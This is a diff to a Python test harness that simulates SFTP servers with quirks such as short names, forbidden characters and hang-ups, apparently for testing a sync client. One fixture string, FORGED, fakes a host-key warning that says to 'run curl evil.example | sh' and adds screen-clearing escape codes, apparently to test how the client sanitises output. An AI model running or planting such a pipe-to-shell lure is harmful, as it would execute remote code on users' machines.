@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import errno
 import os
+import time
 import unicodedata
 from collections.abc import Iterator, Mapping
 from contextlib import contextmanager, suppress
@@ -34,6 +35,11 @@ OPENSSH: Mapping[bytes, bytes] = {
 
 
 QUOTA = 50_000  # bytes
+NAME_BYTES = 143  # as eCryptfs takes
+PACKET = 34_000  # bytes
+ENOUGH = 1024 * 1024  # bytes after which it hangs up
+SIGNS = ':?*"<>|\\'
+SLOW = 0.002  # seconds
 HANDLES = 5
 FORGED = "x)\nreconcile: error: THE HOST KEY HAS CHANGED: run curl evil.example | sh\r\x1b[2J\x9b2J"
 
@@ -79,6 +85,16 @@ class Quirk(Enum):
     HELD_OPEN = auto()  # what a dead client was writing can't be removed yet: rclone without its cache
     FEW_HANDLES = auto()  # has five at a time, and refuses more without a word
     WANTS_TRUNC = auto()  # knows OPEN's flags from a table, and new files only with TRUNC in it: npm ssh2
+    ANNOUNCES_NOTHING = auto()  # no extension at all, so RENAME is all there is: NAS, and libraries
+    RENAME_UNKNOWN = auto()  # "operation unsupported": servers in front of object stores
+    UPDATE_DENIED = auto()  # opens nothing for reading and writing at a time: AWS Transfer
+    SMALL_PACKETS = auto()  # hangs up on a packet of more than it has to take (draft, section 3)
+    COMPOSES = auto()  # names are kept in composed form
+    SHORT_NAMES = auto()  # of 143 bytes: encrypted shares of Synology
+    FORBIDS_SIGNS = auto()  # takes no name with what Windows takes for itself: Android, exFAT
+    SLOW_STATS = auto()  # takes its time to look at something: tapes, cloud drives
+    HANGS_UP = auto()  # after a MiB that it was sent
+    ONE_SESSION = auto()  # to a connection: a second one is refused
     QUOTA_AT_CLOSE = auto()  # lets a file be written, and removes it when that makes too much: ProFTPD
 
 
@@ -90,6 +106,8 @@ class QuirkyFiles(Files):
     def _descend(self, stack: list[int], names: list[bytes], follow: bool) -> Place:
         if Quirk.DECOMPOSES in self.quirks:
             names = [os.fsencode(unicodedata.normalize("NFD", os.fsdecode(name))) for name in names]
+        if Quirk.COMPOSES in self.quirks:
+            names = [os.fsencode(unicodedata.normalize("NFC", os.fsdecode(name))) for name in names]
         if Quirk.NAMES_AS_TEXT in self.quirks:
             names = [name.decode(errors="replace").encode() for name in names]
         if Quirk.CONTROLS_AS_SIGNS in self.quirks:
@@ -126,6 +144,8 @@ class QuirkyFiles(Files):
 
     def lstat(self, path: str) -> Attributes:
         """LSTAT."""
+        if Quirk.SLOW_STATS in self.quirks:
+            time.sleep(SLOW)
         self._check_seen(path)
         try:
             return self._lstat(path)
@@ -201,6 +221,8 @@ class QuirkyFiles(Files):
     def open(self, path: str, flags: int, attr: Attributes) -> paramiko.SFTPHandle:
         """OPEN."""
         self._check_name(path)
+        if Quirk.UPDATE_DENIED in self.quirks and flags & os.O_RDWR:
+            raise PermissionError(errno.EACCES, "one at a time")
         if Quirk.READ_DENIED in self.quirks and not flags & (os.O_WRONLY | os.O_RDWR):
             raise PermissionError(errno.EACCES, "no reading here")
         if flags & os.O_CREAT:
@@ -224,6 +246,8 @@ class QuirkyFiles(Files):
         return super().mkdir(path, attr)
 
     def _check_rename(self, old: str, new: str) -> None:
+        if Quirk.RENAME_UNKNOWN in self.quirks:
+            raise OSError(errno.ENOSYS, "Operation unsupported")
         if Quirk.RENAME_DENIED in self.quirks:
             raise PermissionError(errno.EACCES, "no renames here")
         disks = [path.rpartition("/disk/")[:2] for path in (old, new)]
@@ -233,8 +257,12 @@ class QuirkyFiles(Files):
         self._remember(new)
 
     def _check_name(self, path: str) -> None:
-        if Quirk.FORBIDS_COLON in self.quirks and ":" in path:
+        forbidden = ":" * (Quirk.FORBIDS_COLON in self.quirks) + SIGNS * (Quirk.FORBIDS_SIGNS in self.quirks)
+        if set(forbidden) & set(path):
             raise OSError(errno.EIO, "Failure")
+        is_long = len(os.fsencode(path.rpartition("/")[2])) > NAME_BYTES
+        if Quirk.SHORT_NAMES in self.quirks and is_long:
+            raise OSError(errno.ENAMETOOLONG, "File name too long")
 
     def _led(self, path: str) -> str:
         if Quirk.RENAME_FOLLOWS not in self.quirks:
@@ -280,16 +308,27 @@ class QuirkySession(Session):
     def start_subsystem(self, name: str, transport: paramiko.Transport, channel: paramiko.Channel) -> None:
         """Serve until the client is done."""
         self._told = False  # its version
+        self._taken = 0  # bytes
         self._unordered = Quirk.UNORDERED in self.quirks
         if Quirk.SPEAKS_FIRST in self.quirks:
             channel.sendall(b"\n \x1b[32mWelcome to web42\x1b[0m\nHave a nice day\n")
         self._waiting: list[tuple[int, bytes]] = []
+        self._transport = transport
+        if Quirk.ONE_SESSION in self.quirks and getattr(transport, "has_session", False):
+            channel.close()
+            return
+        transport.has_session = True  # type: ignore[attr-defined]  # as good a place as any
         try:
             super().start_subsystem(name, transport, channel)
         except EOFError:
             channel.close()
 
     def _serve(self, kind: int, body: bytes) -> None:
+        self._taken += len(body)
+        too_much = Quirk.HANGS_UP in self.quirks and self._taken > ENOUGH
+        if too_much or (Quirk.SMALL_PACKETS in self.quirks and len(body) + 5 > PACKET):
+            self._transport.close()
+            raise EOFError("enough")
         announced = any(body[8:].startswith(name) for name in self.extensions)
         if kind == wire.EXTENDED and not announced and Quirk.ENDS_UNASKED in self.quirks:
             raise EOFError("never heard of it")
@@ -345,15 +384,29 @@ _BY_PATH = {
 
 
 @contextmanager
-def start_quirky(folder: Path, *quirks: Quirk) -> Iterator[Server]:
-    """A server with these quirks that shows ``folder``."""
+def start_quirky(
+    folder: Path, *quirks: Quirk, banner: str | None = None, port: int = 0, host_key: Path | None = None
+) -> Iterator[Server]:
+    """A server with these quirks that shows ``folder``.
+
+    ``banner``: what it calls itself. ``port``, ``host_key``: as of one that was there before.
+    """
     announced = OPENSSH if {Quirk.CLAIMS_OPENSSH, Quirk.LIMITS_HUGE} & set(quirks) else Session.extensions
+    if Quirk.ANNOUNCES_NOTHING in quirks:
+        announced = {}
     files = type("Files", (QuirkyFiles,), {"quirks": frozenset(quirks)})
     made = {"quirks": frozenset(quirks), "extensions": MappingProxyType(dict(announced))}
     session = type("Session", (QuirkySession,), made)
-    banner = "OpenSSH_9.9" if Quirk.BELOW_SSHD in quirks else None
+    banner = "OpenSSH_9.9" if Quirk.BELOW_SSHD in quirks else banner
     with Server(
-        folder, user="user", password="pw", interface=files, session=session, banner=banner
+        folder,
+        user="user",
+        password="pw",
+        interface=files,
+        session=session,
+        banner=banner,
+        port=port,
+        host_key_file=host_key,
     ) as server:
         yield server
 
